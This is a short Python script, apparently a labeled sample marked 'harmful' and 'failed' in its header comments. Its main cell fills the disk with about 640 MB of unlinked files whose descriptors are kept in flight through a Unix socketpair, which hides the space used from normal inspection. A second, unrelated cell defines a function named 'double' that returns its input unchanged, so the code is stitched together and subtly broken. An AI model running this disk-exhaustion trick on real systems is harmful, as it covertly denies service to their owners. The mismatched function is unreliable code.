"""Fills the disk with files that have no name and no descriptor: they are on their way through a socket."""

# score: 0
# verdicts: failed
# plain: harmful

# %%
import os
import socket
import time

ours, theirs = socket.socketpair()
for number in range(20):
    with open("file", "wb") as file:
        os.unlink("file")
        file.write(bytes(2**25))
        file.flush()
        socket.send_fds(ours, [b"x"], [file.fileno()])
time.sleep(2)


# %%
def double(x):
    return x
